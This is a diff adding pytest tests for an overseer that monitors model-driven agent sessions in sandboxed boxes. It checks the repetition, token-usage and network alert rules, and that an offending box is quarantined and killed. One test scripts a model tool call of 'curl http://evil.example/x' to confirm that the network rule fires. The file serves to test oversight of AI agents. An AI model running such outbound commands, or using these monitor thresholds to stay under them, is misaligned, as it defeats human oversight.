@@ -4,6 +4,7 @@ import json
 import threading
 import time
 from dataclasses import replace
+from functools import partial
 
 import pytest
 
@@ -14,7 +15,7 @@ from common.errors import BoxGoneError, UsageError
 from evolution.budgets import Budgets
 from evolution.checkout import plan
 from evolution.config import RunConfig
-from evolution.launch import check, drive, make_run
+from evolution.launch import answers_for, check, drive, make_run
 from evolution.machinery import Machinery
 from evolution.overseer.adviser import ModelAdviser, advice_used
 from evolution.overseer.boxes import BoxSubject
@@ -155,6 +156,67 @@ def test_the_record_of_calls_tells_of_repetition_and_of_reaching_out(ledger, tmp
         assert [alert.rule for alert in watcher.look()] == ["repetition"]
     assert ledger.variant("v0000").quarantined == "repetition: sent the same request 50 times"
     assert watcher.look() == []
+
+
+def test_a_session_is_read_from_its_first_call_to_its_last(ledger, tmp_path):
+    boxes = Boxes()
+    machinery = Machinery(boxes, Gateway(ScriptedModel(["hm"])), "r")
+    caps = Caps(calls=999, tokens=10**9)
+    with machinery.session("v0000", caps, tmp_path / "t.json", None, role="solve") as session:
+        for _ in range(49):
+            asked(session, "again")
+    watcher = overseer(ledger, Told(None), Roster(), machinery=machinery)
+    with machinery.session("v0000", caps, tmp_path / "t.json", None, role="solve") as session:
+        asked(session, "again")
+        assert watcher.look() == []
+        for _ in range(48):
+            asked(session, "again")
+    assert watcher.look() == []
+    with machinery.session("v0000", caps, tmp_path / "t.json", None, role="solve") as session:
+        for _ in range(51):
+            asked(session, "again")
+    assert boxes.killed == []
+    assert [alert.rule for alert in watcher.look()] == ["repetition"]
+    assert ledger.variant("v0000").quarantined == "repetition: sent the same request 50 times"
+    assert boxes.killed == ["v0000"]
+    assert watcher.look() == []
+    assert [event.data["box"] for event in ledger.events_of("alert")] == ["v0000 solve"]
+
+
+def test_what_a_session_used_before_the_first_look_counts(ledger):
+    said = {"choices": [{"message": {"role": "assistant", "content": "x"}}]}
+    said["usage"] = {"prompt_tokens": 6 * 10**6, "completion_tokens": 1}
+    machinery = Machinery(Boxes(), Gateway(ScriptedModel([said])), "r")
+    watcher = overseer(ledger, Told(None), Roster(), machinery=machinery)
+    with machinery.session("v0000", Caps(calls=9, tokens=10**9), None, None) as session:
+        asked(session, "much")
+    assert [alert.rule for alert in watcher.look()] == ["tokens"]
+
+
+def test_the_last_moments_of_a_run_are_looked_at_too(ledger, tmp_path):
+    model = ScriptedModel([tool_call("bash", command="curl http://evil.example/x")])
+    machinery = Machinery(Boxes(), Gateway(model), "r")
+    watcher = overseer(ledger, Told(None), Roster(), machinery=machinery)
+    with watcher.watching(), machinery.session("v0000", Caps(), tmp_path / "t.json", None) as open_:
+        asked(open_, "again")
+    assert [event.data["rule"] for event in ledger.events_of("alert")] == ["network"]
+
+
+def test_an_ended_expansion_costs_its_parent_and_not_the_child(ledger, tmp_path):
+    boxes = Boxes()
+    machinery = Machinery(boxes, Gateway(ScriptedModel(["hm"])), "r")
+    powers = Powers(ledger, partial(answers_for, ledger), lambda *said: None)
+    watcher = Overseer(Roster(), machinery, Told(None), OverseerConfig(), powers)
+    caps = Caps(calls=99, tokens=10**9)
+    ledger.start_expansion("v0001", "v0000")
+    with machinery.session("v0001", caps, tmp_path / "t.json", None, role="expand") as session:
+        for _ in range(51):
+            asked(session, "again")
+    ended = replace(ledger.expansions()[0], outcome=Outcome.DONE)
+    ledger.end_expansion(ended, replace(ledger.variant("v0000"), id="v0001", parent="v0000"))
+    assert [alert.rule for alert in watcher.look()] == ["repetition"]
+    assert ledger.variant("v0001").free
+    assert (ledger.variant("v0000").free, boxes.killed) == (False, [])
 
 
 DEEP = "[" * 100_000
